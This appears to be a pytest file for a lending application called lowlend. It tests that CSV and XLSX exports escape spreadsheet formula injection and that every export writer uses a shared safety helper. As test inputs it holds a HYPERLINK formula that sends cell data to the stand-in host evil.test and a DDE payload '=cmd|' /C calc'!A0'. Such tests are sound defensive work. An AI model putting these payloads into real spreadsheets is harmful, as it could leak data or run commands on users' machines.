"""No spreadsheet formula injection in any CSV/XLSX export: the generic list export,
the finance exports, the reconciliation report; and no export writer that skips the
shared helper (lowlend.services.spreadsheet_safety)."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import sqlalchemy as sa

from lowlend.services import reconciliation as rc
from lowlend.services.spreadsheet_safety import TRIGGERS, safe_cell

from .helpers import login

PACKAGE = Path(__file__).resolve().parents[2] / "lowlend"
EVIL = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def _customer_named(app: Any, name: str) -> int:
    from lowlend.persistence.db import db
    from lowlend.persistence.models import Customer

    with app.app_context():
        customer_id = db.session.scalars(sa.select(Customer.id).order_by(Customer.id)).first()
        db.session.execute(sa.update(Customer).where(Customer.id == customer_id)
                           .values(name=name))
        db.session.commit()
        return int(customer_id)


def test_generic_csv_and_xlsx_exports_neutralise_formulas(demo_app: Any) -> None:
    from openpyxl import load_workbook

    _customer_named(demo_app, EVIL)
    client = demo_app.test_client()
    login(client, "admin")
    response = client.get("/customers/export/?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not [c for c in cells if c[:1] in TRIGGERS and safe_cell(c) != c]  # numbers stay
    response = client.get("/customers/export/?format=xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()))
    values = [cell for row in book.active.iter_rows() for cell in row]
    assert any(c.value == "'" + EVIL and c.data_type == "s" for c in values)
    assert not [c for c in values if c.data_type == "f"]  # no formula cell at all


def test_generic_export_keeps_negative_numbers(demo_app: Any) -> None:
    from lowlend.web.generic.export import _csv

    text = _csv([["amount", "note"], ["-12.50", "-cmd"], ["-1,234.50", "+1"]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [
        ["amount", "note"], ["-12.50", "'-cmd"], ["-1,234.50", "+1"]]


def test_finance_csv_downloads_neutralise_formulas(demo_app: Any) -> None:
    from lowlend.web.finance.common import csv_response

    with demo_app.test_request_context("/"):
        response = csv_response([["Description", "Debit"], ["@SUM(A1:A9)", Decimal("-12.50")],
                                 ["\t=1+1", None]], "x.csv")
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows == [["Description", "Debit"], ["'@SUM(A1:A9)", "-12.50"], ["'\t=1+1", ""]]


def test_reconciliation_report_csv_neutralises_formulas() -> None:
    class Report(rc.DailyReport):
        def rows(self) -> list[tuple[str, str, str, str, int, Decimal]]:
            return [("CNY", "in", "statement", "=cmd|' /C calc'!A0", 1, Decimal("-12.50"))]

    text = rc.report_csv(Report(dt.date(2026, 2, 7), []), label=lambda code: code)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["2026-02-07", "CNY", "in", "statement", "'=cmd|' /C calc'!A0", "1",
                       "-12.50"]


def _writes_spreadsheets(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and (
            node.attr in ("to_csv", "to_excel")
            or (node.attr in ("writer", "DictWriter")  # csv.writer, not any object's .writer
                and isinstance(node.value, ast.Name) and node.value.id == "csv")
        ):
            return True
        if isinstance(node, ast.Name) and node.id == "Workbook":
            return True
    return False


def test_every_export_writer_uses_the_shared_helper() -> None:
    """A module that writes CSV or XLSX must import lowlend.services.spreadsheet_safety."""
    writers, unsafe = [], []
    for path in sorted(PACKAGE.rglob("*.py")):
        if "migrations" in path.parts or path.name == "spreadsheet_safety.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        if not _writes_spreadsheets(tree):
            continue
        writers.append(path.relative_to(PACKAGE).as_posix())
        imports = {node.module for node in ast.walk(tree)
                   if isinstance(node, ast.ImportFrom) and node.module}
        if "lowlend.services.spreadsheet_safety" not in imports:
            unsafe.append(path.relative_to(PACKAGE).as_posix())
    assert "web/generic/export.py" in writers and "services/reconciliation.py" in writers
    assert unsafe == []
